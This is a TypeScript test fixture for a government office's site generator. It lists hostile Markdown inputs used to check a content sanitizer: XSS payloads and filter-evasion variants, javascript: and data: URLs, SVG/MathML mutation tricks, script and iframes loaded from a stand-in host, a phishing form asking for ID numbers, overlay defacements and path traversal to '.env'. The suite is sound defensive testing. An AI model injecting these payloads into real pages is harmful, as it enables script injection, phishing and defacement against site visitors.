/**
 * Issue 9's adversarial content: what a writer with bad intent (or a careless paste) puts into an
 * item's Markdown to run script on the official site, deface it, swallow its footer or pull in
 * files from outside the item. Each case becomes one item; the suite builds them all into a copy
 * of the example office's site and opens each page in Chromium.
 *
 * `body` is the item's text after its first paragraph; `fields` are extra frontmatter lines. The
 * line that `tayang periksa` must flag is the first line of `body`, or the first of `fields`.
 */
export interface HostileCase {
  name: string;
  body?: string;
  fields?: string;
}

/** Outside every item: no case may get these into dist/. */
export const CANARY = 'KANARI-RAHASIA-7f3a9c';
export const OUTSIDE_FILES = { 'rahasia.txt': `${CANARY}\n`, '.env': `TOKEN=${CANARY}\n` };

export const HOSTILE_CASES: readonly HostileCase[] = [
  // Script, written the plain way and the ways a pattern-based filter misses.
  { name: 'script-tag', body: '<script>alert(1)</script>' },
  { name: 'script-src', body: '<script src="https://contoh.test/a.js"></script>' },
  { name: 'script-uppercase', body: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script-split-name', body: '<scr<script>ipt>alert(1)</script>' },
  { name: 'img-onerror', body: '<img src="x" alt="" onerror="alert(1)">' },
  { name: 'img-onerror-single-quotes', body: "<img src=\"x\" alt=\"a\" onerror='alert(1)'>" },
  { name: 'img-attributes-on-lines', body: '<img src="x"\nalt="a"\nonerror="alert(1)">' },
  { name: 'img-slash-separators', body: '<img/src="x"/onerror=alert(1)>' },
  { name: 'img-no-space-between-attributes', body: '<img src="x"onerror=alert(1)>' },
  { name: 'img-unquoted-equals', body: '<img src=x=1 onerror=alert(1)>' },
  { name: 'img-backtick-values', body: '<img src=`x` onerror=`alert(1)`>' },
  { name: 'img-srcset-javascript', body: '<img src="a.png" srcset="javascript:alert(1)" alt="">' },
  { name: 'audio-onerror', body: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'video-poster-javascript', body: '<video poster="javascript:alert(1)" src="x.mp4"></video>' },
  { name: 'marquee-onstart', body: '<marquee onstart="alert(1)">Pengumuman</marquee>' },
  { name: 'details-ontoggle', body: '<details open ontoggle="alert(1)"><summary>Rincian</summary>Isi</details>' },
  { name: 'input-autofocus-onfocus', body: '<input autofocus onfocus="alert(1)">' },
  { name: 'isindex-onerror', body: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'comment-breakout', body: '<!--><img src=x onerror=alert(1)>-->' },
  // SVG and MathML: other namespaces, other parsing rules.
  { name: 'svg-onload', body: '<svg onload="alert(1)"></svg>' },
  { name: 'svg-slash-onload', body: '<svg/onload=alert(1)>' },
  { name: 'svg-animate-javascript', body: '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>' },
  { name: 'svg-set-javascript', body: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">klik</text></a></svg>' },
  { name: 'svg-prefixed-script', body: '<svg><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></svg>' },
  { name: 'svg-foreignobject-iframe', body: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>' },
  { name: 'svg-cdata-breakout', body: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  { name: 'svg-style-hides-page', body: '<svg><style>*{display:none}</style></svg>' },
  { name: 'svg-use-external', body: '<svg><use href="https://contoh.test/x.svg#a"/></svg>' },
  { name: 'math-xlink-javascript', body: '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>' },
  { name: 'math-style-mxss', body: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' },
  { name: 'noscript-mxss', body: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>' },
  { name: 'template-script', body: '<template><script>alert(1)</script></template>' },
  // Addresses that run script.
  { name: 'a-javascript', body: '<a href="javascript:alert(1)">Unduh formulir</a>' },
  { name: 'a-javascript-entities', body: '<a href="&#x6A;avascript&colon;alert(1)">Unduh formulir</a>' },
  { name: 'a-javascript-tab', body: '<a href="java&#9;script:alert(1)">Unduh formulir</a>' },
  { name: 'a-vbscript', body: '<a href="vbscript:msgbox(1)">Unduh formulir</a>' },
  { name: 'markdown-link-javascript', body: '[Unduh formulir](javascript:alert(1))' },
  { name: 'markdown-reference-javascript', body: '[Unduh formulir][f]\n\n[f]: javascript:alert(1)' },
  { name: 'markdown-link-data-html', body: '[Unduh formulir](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'button-formaction', body: '<button formaction="javascript:alert(1)">Kirim</button>' },
  // Other sites inside the official one.
  { name: 'iframe-foreign', body: '<iframe src="https://contoh.test/masuk" title="Masuk"></iframe>' },
  { name: 'iframe-srcdoc', body: '<iframe srcdoc="<script>alert(1)</script>" title="Video"></iframe>' },
  { name: 'iframe-javascript', body: '<iframe src="javascript:alert(1)" title="Video"></iframe>' },
  { name: 'iframe-lookalike-host', body: '<iframe src="https://www.youtube-nocookie.com.contoh.test/embed/abc" title="Video"></iframe>' },
  { name: 'object-data', body: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed-src', body: '<embed src="javascript:alert(1)">' },
  { name: 'base-href', body: '<base href="https://contoh.test/">' },
  { name: 'meta-refresh', body: '<meta http-equiv="refresh" content="0;url=https://contoh.test/">' },
  { name: 'form-asks-for-nik', body: '<form action="https://contoh.test/"><label>NIK <input name="nik"></label><button>Kirim</button></form>' },
  { name: 'link-stylesheet', body: '<link rel="stylesheet" href="https://contoh.test/a.css">' },
  // Defacement without script: overlays, hidden chrome, swallowed pages.
  { name: 'style-tag-hides-footer', body: '<style>footer{display:none}</style>' },
  { name: 'overlay-div', body: '<div style="position:fixed;inset:0;z-index:99;background:#fff"><a href="https://contoh.test/">Masuk untuk melanjutkan</a></div>' },
  { name: 'overlay-link', body: '<a href="https://contoh.test/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99">Hadiah</a>' },
  { name: 'overlay-absolute-in-link', body: '<a href="https://contoh.test/"><span style="position:absolute;top:0;left:0;right:0;bottom:0"></span></a>' },
  { name: 'fake-site-chrome', body: '<div class="site-footer">Situs ini dipindahkan ke contoh.test</div>\n\n## Footer kontak\n\n## Riwayat persetujuan' },
  { name: 'dir-reverses-digits', body: 'Rekening <span dir="rtl">123 456 789</span> atas nama kantor.' },
  { name: 'cell-pushes-footer-away', body: '<table><tr><th>Uraian</th></tr><tr><td height="30000">Belanja</td></tr></table>' },
  { name: 'srcset-data-picture', body: '<a href="https://contoh.test/"><picture><source srcset="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSI0MDAiIGhlaWdodD0iMjAwMDAiLz4="><img src="x.png" alt="Pengumuman"></picture></a>' },
  { name: 'textarea-unclosed', body: '<textarea>\n\nSisa berita dan kaki halaman tertelan.' },
  { name: 'plaintext', body: '<plaintext>\n\nSisa berita dan kaki halaman tertelan.' },
  { name: 'xmp-unclosed', body: '<xmp>\n\nSisa berita tertelan.' },
  { name: 'title-unclosed', body: '<title>\n\nSisa berita tertelan.' },
  { name: 'select-swallows', body: '<select><option>Pilih</option>\n\nSisa berita tertelan.' },
  { name: 'iframe-unclosed', body: '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Video">\n\nSisa berita tertelan.' },
  { name: 'comment-unclosed', body: '<!--\n\nSisa berita tertelan.' },
  { name: 'ruby-rp-hides-text', body: '<ruby>gratis<rp> … biaya Rp500.000</rp></ruby>' },
  { name: 'svg-iframe-hides-text', body: '<svg><iframe><a href="https://contoh.test/">Teks yang hilang</a></iframe></svg>' },
  { name: 'tabindex-steals-focus', body: '<a href="https://contoh.test/" tabindex="1">Lewati ke isi</a>' },
  { name: 'accesskey', body: '<a href="https://contoh.test/" accesskey="s">Cari</a>' },
  { name: 'target-blank', body: '<a href="https://contoh.test/" target="_blank">Tautan</a>' },
  // Files from outside the item.
  { name: 'img-outside-item', body: '<img src="../../../rahasia.txt" alt="Rahasia">' },
  { name: 'link-outside-item', body: '<a href="../../../.env">Lampiran</a> <img src="/rahasia.txt" alt="x" onerror="alert(1)">' },
  // Frontmatter is text on the page: titles and summaries with tags in them.
  { name: 'frontmatter-summary-script', fields: 'ringkasan: "<script>alert(1)</script> Ringkasan kegiatan."' },
  { name: 'frontmatter-author-img', fields: 'penulis: <img src=x onerror=alert(1)>' },
  // The title is also the search result's link text (Pagefind keeps it unescaped) and the first line of the braille edition.
  { name: 'frontmatter-title-markup', fields: 'judul: "Uji <img src=x onerror=alert(1)> <mark>judul</mark> &lt;b&gt;"' },
];
